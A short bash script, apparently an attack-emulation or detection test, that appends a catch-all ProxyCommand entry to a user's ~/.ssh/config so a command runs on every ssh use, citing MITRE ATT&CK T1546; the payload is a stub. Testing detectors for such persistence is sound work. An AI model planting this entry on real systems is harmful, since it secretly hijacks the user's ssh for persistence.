#!/bin/bash
# tries: to have ssh run a command whenever it is used
# works: ProxyCommand and LocalCommand name programs
# see: ssh_config(5); MITRE ATT&CK T1546
# goal: change
# watch: /home/dev/.ssh
printf 'Host *\n  ProxyCommand sh -c x\n' >>/home/dev/.ssh/config
